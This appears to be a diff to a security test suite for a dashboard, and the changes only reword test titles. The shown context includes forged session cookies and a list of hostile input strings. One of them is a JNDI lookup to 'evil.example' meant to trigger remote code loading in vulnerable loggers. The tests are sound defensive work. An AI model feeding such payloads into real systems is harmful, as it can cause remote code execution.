@@ -29,7 +29,7 @@ const FORGED_COOKIES = {
     'nixfleet_session=v1.eyJ2IjoxfQ.AAAA; next-auth.session-token=x; __Secure-next-auth.session-token=x; __Host-nixfleet.session=x',
 };
 
-test('a request without a session reaches no page and no route', async ({ world }) => {
+test('requests without a session reach no page and no route', async ({ world }) => {
   const dashboard = world.makeDashboard();
   await dashboard.start();
   const routes = allRoutes();
@@ -51,7 +51,7 @@ test('a request without a session reaches no page and no route', async ({ world 
   }
 });
 
-test('a request without a session runs no action', async ({ world }) => {
+test('requests without a session run no action', async ({ world }) => {
   const dashboard = world.makeDashboard();
   await dashboard.start();
   const actions = allActions();
@@ -80,7 +80,7 @@ test('a request without a session runs no action', async ({ world }) => {
   expect(PUBLIC_ACTIONS.filter((name) => !actions.some((action) => action.name === name))).toEqual([]);
 });
 
-test('an action that another site sends is refused before it runs', async ({ page, world }) => {
+test('an action sent by another site is refused before it runs', async ({ page, world }) => {
   const dashboard = world.makeDashboard(CONFIGURED);
   await dashboard.start();
   await signInConfigured(page, dashboard.url);
@@ -127,7 +127,7 @@ const HOSTILE_STRINGS = [
   '%n%s%x${jndi:ldap://evil.example/a}',
 ];
 
-test('whatever an agent says is text: in the page, in the log, on the terminal', async ({ page, world }) => {
+test('text from agents stays text in the page, in the log and on the terminal', async ({ page, world }) => {
   const dashboard = world.makeDashboard({ ...CONFIGURED, NIXFLEET_LOG_LEVEL: 'debug' });
   await dashboard.start();
   await signInConfigured(page, dashboard.url);
@@ -200,7 +200,7 @@ test('whatever an agent says is text: in the page, in the log, on the terminal',
   }
 });
 
-test('frames that are too large or never end cost their own connection and nothing else', async ({ world }) => {
+test('frames that are too large or never end close only their own connection', async ({ world }) => {
   const dashboard = world.makeDashboard();
   await dashboard.start();
   const good = await openAgent(dashboard);
@@ -228,7 +228,7 @@ test('frames that are too large or never end cost their own connection and nothi
   good.socket.terminate();
 });
 
-test('a thousand half-open upgrades keep nobody out, and are dropped', async ({ world }) => {
+test('a thousand half-open upgrades are dropped and block nobody', async ({ world }) => {
   const dashboard = world.makeDashboard();
   await dashboard.start();
   const port = Number(new URL(dashboard.url).port);
